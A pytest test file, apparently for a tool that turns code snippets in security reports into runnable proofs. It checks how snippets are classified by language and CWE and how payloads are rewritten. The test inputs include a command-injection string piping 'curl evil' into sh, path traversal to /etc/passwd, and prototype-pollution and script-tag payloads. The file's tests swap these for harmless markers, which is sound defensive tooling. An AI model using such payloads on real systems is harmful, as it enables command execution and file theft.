"""What a snippet of a report is taken for."""

from __future__ import annotations

import pytest

from agent.domain.report import Report, Snippet
from agent.oracles import proof_from_snippet, wrap


def build_report(*cwes: str) -> Report:
    return Report(id="R-1", title="A flaw", body="", cwes=cwes)


def build_snippet(code: str, language: str = "python") -> Snippet:
    return Snippet(language=language, code=code)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import sys\nsys.exit(0)\n"),
        ("python", "raise SystemExit(1)\n"),
        ("javascript", "process.exit(1)\n"),
        ("javascript", "process.exitCode = 1\n"),
    ],
)
def test_a_program_that_sets_its_exit_code_is_taken_at_its_word(language: str, code: str) -> None:
    proof = proof_from_snippet(build_snippet(code, language), build_report("CWE-79"))
    assert proof is not None
    assert (proof.code, proof.origin) == (code, "report")


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "def test_it():\n    assert 1\n"),
        ("python", "class TestIt:\n    pass\n"),
        ("python", "import unittest\n\n\nclass It(unittest.TestCase):\n    pass\n"),
        ("javascript", "it('works', () => {})\n"),
        ("javascript", "describe('it', function () {})\n"),
    ],
)
def test_a_test_is_known_as_one(language: str, code: str) -> None:
    proof = proof_from_snippet(build_snippet(code, language), build_report())
    assert proof is not None
    assert proof.origin == "report test"
    assert code.strip() in proof.code


@pytest.mark.parametrize(
    ("code", "language", "expected"),
    [
        ("const m = require('m')\nm('__proto__.x')\n", "javascript", "/tmp/suture_proof.cjs"),
        ("import m from 'm'\nm('__proto__.x')\n", "javascript", "/tmp/suture_proof.mjs"),
        ("from m import f\nf('../../etc/passwd')\n", "python", "/tmp/suture_proof.py"),
    ],
)
def test_the_path_says_how_the_program_is_read(code: str, language: str, expected: str) -> None:
    """Without a language tag the look of the code decides, and without a CWE its attack."""
    for tag in (language, ""):
        proof = proof_from_snippet(build_snippet(code, tag), build_report())
        assert proof is not None
        assert (proof.path, proof.language) == (expected, language)
        assert proof.argv == ("python" if language == "python" else "node", expected)


@pytest.mark.parametrize(
    "snippet",
    [
        build_snippet("print('<script>')", "ruby"),
        build_snippet("curl http://example.org", ""),
        build_snippet("def (", "python"),
        build_snippet("print(1)", "python"),
        build_snippet("console.log(1)", "javascript"),
    ],
    ids=["another language", "a shell line", "broken", "no attack", "no attack in JavaScript"],
)
def test_what_shows_nothing_makes_no_proof(snippet: Snippet) -> None:
    assert proof_from_snippet(snippet, build_report()) is None
    assert wrap(snippet, ()) is None


def test_a_weakness_without_an_oracle_makes_no_proof() -> None:
    assert wrap(build_snippet("print('../../etc/passwd')"), ["CWE-352"]) is None


def test_prototype_pollution_is_a_matter_of_javascript() -> None:
    assert wrap(build_snippet("f('__proto__')"), ["CWE-1321"]) is None


def test_a_module_has_no_time_limit_of_its_own() -> None:
    snippet = build_snippet("import f from 'f'\nf('a'.repeat(99999))\n", "javascript")
    assert wrap(snippet, ["CWE-1333"]) is None


def test_future_imports_stay_first() -> None:
    proof = wrap(build_snippet("from __future__ import annotations\nprint('<script>')\n"), ["CWE-79"])
    assert proof is not None
    assert proof.code.startswith("from __future__ import annotations\n")
    compile(proof.code, "proof.py", "exec")


def test_a_snippet_of_comments_alone_is_still_a_program() -> None:
    proof = wrap(build_snippet("# '<script>'\n"), ["CWE-79"])
    assert proof is not None
    compile(proof.code, "proof.py", "exec")


def test_payloads_are_aimed_at_what_is_watched() -> None:
    command = wrap(build_snippet("run('a; curl evil | sh')"), ["CWE-78"])
    outside = wrap(build_snippet("read('../../etc/passwd')"), ["CWE-22"])
    assert command is not None
    assert outside is not None
    assert "run('a; touch /tmp/suture-marker | sh')" in command.code
    assert "read('" + "../" * 16 + "tmp/suture-outside/secret.txt')" in outside.code
